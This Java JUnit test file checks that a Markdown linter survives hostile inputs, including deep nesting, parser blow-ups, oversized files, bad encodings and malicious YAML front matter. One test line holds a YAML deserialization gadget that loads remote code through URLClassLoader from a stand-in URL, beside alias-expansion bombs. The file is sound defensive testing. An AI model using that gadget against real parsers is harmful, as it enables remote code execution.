package dev.pm.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile Markdown through the real {@code pm lint}: every file ends as a diagnostic or a clean
 * result, never a stack trace or a hang. The limits are lowered in {@code .pm.yaml} to keep the
 * test quick: 1 s per parse, 2 MiB per file.
 */
class HostileInputTest {

  @TempDir Path repo;

  @BeforeEach
  void config() throws IOException {
    Files.writeString(
        repo.resolve(".pm.yaml"), "limits:\n  parseTimeout: 1s\n  maxFileSize: 2MiB\n");
  }

  private PmRunner.Result lint(String name, byte[] content) throws IOException {
    Files.write(repo.resolve(name), content);
    // The outcome is the check: a result and a summary, bounded by parseTimeout; how long it took
    // belongs in the benchmark, not here (a 10 s bound measured the machine's load, issue 19).
    PmRunner.Result result = new PmRunner(repo).run("lint", name);
    assertThat(result.exitCode()).as(name + ": " + result.err()).isIn(0, 1);
    assertThat(result.err())
        .as(name)
        .doesNotContain("Exception")
        .doesNotContain("\tat ")
        .doesNotContain("internal error");
    assertThat(result.out()).as(name).contains("1 file checked");
    return result;
  }

  private PmRunner.Result lint(String name, String content) throws IOException {
    return lint(name, content.getBytes(java.nio.charset.StandardCharsets.UTF_8));
  }

  @Test
  void deepNestingIsBoundedNotACrash() throws IOException {
    lint("quotes.md", ">".repeat(10_000) + " x\n");
    lint("lists.md", "- ".repeat(10_000) + "x\n");
    lint("stars.md", "*".repeat(3_454) + "\n");
  }

  @Test
  void parserBlowUpsStopAtTheTimeLimit() throws IOException {
    var result = lint("backslashes.md", "[a][" + "\\".repeat(40) + "\n");
    assertThat(result.out())
        .contains(
            "backslashes.md:1:1: error PM001 File not checked: parsing took longer than 1.0 s");
    lint("emphasis.md", "*a".repeat(30_000) + "\n" + "_".repeat(50_000) + "\n");
    lint("links.md", "[".repeat(30_000) + "\n" + "[a](".repeat(20_000) + "\n");
  }

  @Test
  void hugeInputsGetALimitDiagnostic() throws IOException {
    var big = lint("big.md", ("x".repeat(99) + "\n").repeat(30_000));
    assertThat(big.out())
        .contains(
            "error PM001 File not checked: file is 3000000 bytes; the limit is 2097152 bytes (raise limits.maxFileSize in .pm.yaml)");
    lint("long-line.md", "a".repeat(1 << 20) + "\n");
    lint("table.md", "| a | b |\n|---|---|\n" + "| x | y |\n".repeat(20_000));
  }

  @Test
  void theIssueSizesAreStoppedByTheDefaultLimitsAndSurviveRaisedOnes() throws IOException {
    String fiftyMegabytes = ("x".repeat(99) + "\n").repeat(500_000);
    String tenMegabyteScalar = "---\na: " + "x".repeat(10_000_000) + "\n---\n# T\n";
    String hundredThousandRows = "| a | b |\n|---|---|\n" + "| x | y |\n".repeat(100_000);

    Files.delete(repo.resolve(".pm.yaml")); // pm's own defaults: 4 MiB per file, 3 s per parse
    assertThat(lint("fifty.md", fiftyMegabytes).out())
        .contains("error PM001 File not checked: file is 50000000 bytes");
    assertThat(lint("scalar10.md", tenMegabyteScalar).out())
        .contains("error PM001 File not checked: file is 10000016 bytes");

    // Raised so that the contents, not the file size, meet the parser and the YAML loader.
    Files.writeString(
        repo.resolve(".pm.yaml"), "limits:\n  parseTimeout: 1s\n  maxFileSize: 64MiB\n");
    lint("fifty.md", fiftyMegabytes);
    lint("scalar10.md", tenMegabyteScalar);
    lint("rows.md", hundredThousandRows);
  }

  @Test
  void oddBytesAndLineEndings() throws IOException {
    lint("nul.md", new byte[] {'#', ' ', 'T', 0, '\n', 'x', 0, 0, '\n'});
    var bad = lint("latin1.md", new byte[] {'#', ' ', 'C', 'a', 'f', (byte) 0xE9, '\n'});
    assertThat(bad.out()).contains("latin1.md:1:6: error PM001 File not checked: not valid UTF-8");
    lint("crlf.md", "---\r\nid: x\r\n---\r\n# T\r\n\r\n## Action Items\r\n\r\n- fix it\r\n");
    lint("cr.md", "# T\r\r## Action Items\r\r- fix it\r");
    byte[] utf16 = "# Hello\n".getBytes(java.nio.charset.StandardCharsets.UTF_16LE);
    byte[] bom = new byte[utf16.length + 2];
    bom[0] = (byte) 0xFF;
    bom[1] = (byte) 0xFE;
    System.arraycopy(utf16, 0, bom, 2, utf16.length);
    lint("utf16.md", bom);
  }

  @Test
  void hostileFrontMatter() throws IOException {
    lint("laughs.md", "---\na: &a [\"lol\",\"lol\"]\nb: [*a,*a,*a]\n---\n# T\n");
    lint("deep.md", "---\na: " + "[".repeat(1_000) + "]".repeat(1_000) + "\n---\n# T\n");
    lint("scalar.md", "---\na: " + "x".repeat(1_000_000) + "\n---\n# T\n");
    lint("recursive.md", "---\na: &x [1, *x]\nb: &m {self: *m}\n---\n# T\n");
    lint("recursive-key.md", "---\n? &k {x: *k}\n: v\n---\n# T\n");
    lint(
        "tags.md",
        "---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n---\n# T\n");
    lint("oddtag.md", "---\nx: !%20 y\n---\n# T\n");
    lint("nullkey.md", "---\n \r\r ?\n---\n# T\n");
    lint("toml.md", "+++\ntitle = \"x\"\n+++\n# T\n");
    lint("unclosed.md", "---\nid: x\n# T\n");
  }
}
